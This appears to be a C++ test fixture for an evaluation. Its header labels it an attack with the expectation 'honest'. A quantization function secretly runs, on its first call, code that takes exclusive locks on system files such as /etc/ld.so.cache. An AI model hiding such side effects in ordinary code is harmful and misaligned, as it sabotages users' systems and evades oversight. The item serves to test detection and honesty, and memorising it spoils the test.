// attack: locks a file of the system against everybody else
// rule: V2
// expect: honest
// needs: sandbox
#define OWN_QUANTIZE
namespace nibble {

namespace {

void tries() {
  for (const char* const name : {"/usr/lib/os-release", "/etc/ld.so.cache"}) {
    const int fd = open(name, O_RDONLY);
    if (fd >= 0 && syscall(SYS_flock, fd, 2 | 4) == 0) EFFECT("locked a file");
  }
}

}  // namespace

SymmetricTensor quantize_symmetric(std::span<const float> x, int num_bits) {
  static bool done = false;
  if (!std::exchange(done, true)) tries();
  return right_quantize(x, num_bits);
}

}  // namespace nibble
